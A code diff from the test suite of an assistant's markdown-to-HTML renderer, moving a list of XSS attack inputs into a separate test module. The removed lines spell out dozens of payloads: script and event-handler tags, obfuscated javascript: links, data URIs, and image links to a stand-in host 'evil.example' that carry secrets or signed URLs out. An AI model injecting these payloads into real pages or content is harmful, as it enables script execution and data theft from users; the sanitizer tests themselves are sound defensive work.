@@ -7,67 +7,9 @@ import pytest
 
 from assistant.pages.growing import GrowingHtml
 from assistant.pages.render import MAX_MARKDOWN, TAGS, clean, render
+from tests.hostile_markup import ATTACKS, PICTURE
 
-PICTURE = f"/v1/images/files/{'0a' * 32}.png?expires=1893456000&signature={'b1' * 32}"
 SAFE_ATTRIBUTES = {"href", "title", "target", "rel", "src", "alt", "loading", "start", "class", "tabindex"}
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<style>body{background:url(https://evil.example)}</style>",
-    "<form action=https://evil.example><button>x</button></form>",
-    "<base href=https://evil.example>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<!--><script>alert(1)</script>-->",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x73;cript:alert(1))",
-    "[x](&#x6A;avascript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](\tjavascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](//evil.example/path)",
-    "[x](/logout)",
-    "[x](file:///etc/passwd)",
-    "<javascript:alert(1)>",
-    '[x](https://ok.example/" onmouseover="alert(1))',
-    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
-    "[x]: javascript:alert(1)\n\n[x]",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/?q=secret)",
-    "![x](//evil.example/?q=secret)",
-    "![x](http:evil.example/x.png)",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    '![" onerror="alert(1)](https://evil.example/x.png)',
-    f"![x](https://evil.example\\@host{PICTURE})",
-    f"![x](https://evil.example/?u={PICTURE})",
-    f"![x]({PICTURE}#x'onerror='alert(1))",
-    "![x](/v1/images/files/../../api/me)",
-    "![x][r]\n\n[r]: https://evil.example/x.png",
-    '```"><script>alert(1)</script>\nx\n```',
-    "```<img/src=x/onerror=alert(1)>\nx\n```",
-    "```html\n<script>alert(1)</script>\n```",
-    "    <script>alert(1)</script>",
-    "`<script>alert(1)</script>`",
-    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "# <script>alert(1)</script>",
-    "- <svg onload=alert(1)>\n",
-    "\x00<script>alert(1)</script>",
-    "<scr\x00ipt>alert(1)</script>",
-    "\u202e<script>alert(1)</script>",
-    "[<img src=x onerror=alert(1)>](https://ok.example)",
-    "**<script>**alert(1)</script>",
-    "<a\nhref=javascript:alert(1)>x</a>",
-    "<div style=position:fixed;inset:0>x</div>",
-    "<details open ontoggle=alert(1)>",
-]
 
 
 class Elements(HTMLParser):
